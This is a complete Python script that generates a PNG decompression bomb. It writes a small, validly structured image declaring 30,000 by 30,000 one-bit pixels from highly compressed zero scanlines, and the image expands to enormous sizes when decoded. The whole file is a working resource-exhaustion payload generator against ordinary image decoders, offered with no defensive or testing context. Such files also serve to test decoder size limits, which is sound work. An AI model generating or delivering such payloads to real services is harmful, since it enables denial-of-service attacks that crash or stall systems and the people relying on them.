"""Writes a decompression bomb: a small PNG of 30,000 × 30,000 pixels. python3 bomb.py FILE"""

import pathlib
import struct
import sys
import zlib

SIDE = 30_000


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pixels():
    """One bit a pixel, all black: a filter byte and 3,750 bytes a line."""
    line = bytes(1 + SIDE // 8)
    deflate = zlib.compressobj(9)
    return b"".join(deflate.compress(line) for _ in range(SIDE)) + deflate.flush()


pathlib.Path(sys.argv[1]).write_bytes(
    b"\x89PNG\r\n\x1a\n"
    + chunk(b"IHDR", struct.pack(">IIBBBBB", SIDE, SIDE, 1, 0, 0, 0, 0))
    + chunk(b"IDAT", pixels())
    + chunk(b"IEND", b""))
